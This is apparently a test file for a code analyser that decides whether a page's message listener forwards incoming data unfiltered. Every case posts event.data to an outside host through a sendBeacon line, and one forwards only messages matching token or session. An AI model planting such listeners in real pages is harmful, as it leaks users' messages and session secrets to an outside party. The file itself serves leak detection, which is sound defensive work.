import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { factsOf } from '../../../../testing/facts-of.ts';

const send = "navigator.sendBeacon('https://in.a-site.net/heard', JSON.stringify(event.data))";

function isTakenWhole(lines: string, before = ''): boolean {
  const facts = factsOf(`${before} addEventListener('message', (event) => { ${lines} });`);
  const flow = facts.flows.find(({ source }) => source.kind === 'page-message');
  return flow !== undefined && facts.isTakenWhole(flow.source);
}

const open: (readonly [lines: string, before?: string])[] = [
  [`${send};`],
  [`if (event.data) ${send};`],
  [`if (!event.data) return; ${send};`],
  [`if (typeof event.data === 'object') ${send};`],
  [`if (event.data === null || event.data === undefined) return; ${send};`],
  [`if (event.data && event.data.type) ${send};`],
  [`if (event.data.type === 'ping') return; ${send};`],
  [`if (event.origin !== location.origin) ${send};`],
  [`if (event.isTrusted && Object.keys(event.data).length > 2) ${send};`],
  [`if (isOn) ${send};`, 'let isOn = true;'],
  [
    `const text = JSON.stringify(event.data); if (seen.has(text)) return; seen.add(text); ${send};`,
    'const seen = new Set();',
  ],
  [`if (/token|session/i.test(JSON.stringify(event.data))) ${send};`],
  [`if (event.data.indexOf('tide') === -1) ${send};`],
  [
    `if (isObject(event.data)) ${send};`,
    "const isObject = (each) => { if (!each) return false; return typeof each === 'object'; };",
  ],
  [`if (event.data) take(event);`, `function take(event) { if (event.data) ${send}; }`],
];

open.push(
  [`if (event.data.first === event.data.second) ${send};`],
  [`if (event.data.error === undefined) ${send};`],
  [`if (event.data.type === 'tide' || event.data) ${send};`],
);

const closed: typeof open = [
  [`if (event.data?.nonce !== nonce) return; ${send};`, 'const nonce = crypto.randomUUID();'],
  [`if (kinds.indexOf(event.data.type) < 0) return; ${send};`, "const kinds = ['tide-note'];"],
  [
    `handlers[event.data.type]?.(event);`,
    `const handlers = { 'tide-note': (event) => { ${send}; } };`,
  ],
  [`if (event.data.type !== 'tide') return; ${send};`],
  [`if (event.source !== window || !event.data) return; ${send};`],
  [`if (event.origin !== 'https://app.tide.dev') return; ${send};`],
  [
    `if (!origins.includes(event.origin)) return; ${send};`,
    "const origins = ['https://app.tide.dev'];",
  ],
  [`if (new URL(event.origin).host === 'app.tide.dev') ${send};`],
  [`if (!event.data?.tideNote) return; ${send};`],
  [`if ('tide' in event.data) ${send};`],
  [`if (typeof event.data !== 'string' || !event.data.startsWith('tide:')) return; ${send};`],
  [`if (event.data.indexOf('tide') !== -1) ${send};`],
  [`if (!kinds.has(event.data.kind)) return; ${send};`, "const kinds = new Set(['tide-note']);"],
  [`switch (event.data.type) { case 'tide-note': case 'tide-save': ${send}; break; }`],
  [
    `if (isOurs(event.data)) ${send};`,
    "const isOurs = (each) => { if (!each) return false; if (each.source !== 'tide') return false; return true; };",
  ],
  [
    `const isOurs = event.data && event.data.channel === channel; if (!isOurs) return; ${send};`,
    "const channel = 'tide';",
  ],
  [`if (event.data.type === 'tide') take(event);`, `function take(event) { ${send}; }`],
];

describe('a message of a page is handed on', () => {
  for (const [lines, before] of open)
    it(`whatever it says: ${lines} ${before ?? ''}`, () =>
      assert.equal(isTakenWhole(lines, before), true));

  for (const [lines, before] of closed)
    it(`only if it is of one kind or sender: ${lines} ${before ?? ''}`, () =>
      assert.equal(isTakenWhole(lines, before), false));
});
